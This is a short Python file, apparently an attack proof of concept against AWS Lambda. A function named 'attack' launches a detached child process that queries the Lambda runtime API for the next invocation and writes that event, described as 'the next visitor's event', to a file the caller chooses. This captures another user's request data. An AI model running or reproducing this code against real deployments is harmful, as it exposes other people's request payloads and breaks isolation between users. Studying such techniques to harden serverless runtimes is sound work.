"""A child takes the next visitor's event from under the runtime."""

import subprocess
import sys

CODE = """
import os, sys, urllib.request
api = os.environ["AWS_LAMBDA_RUNTIME_API"]
next = urllib.request.urlopen("http://%s/2018-06-01/runtime/invocation/next" % api)
open(sys.argv[1], "w").write(next.read().decode())
"""


def attack(event):
    subprocess.Popen([sys.executable, "-c", CODE, event["out"]])
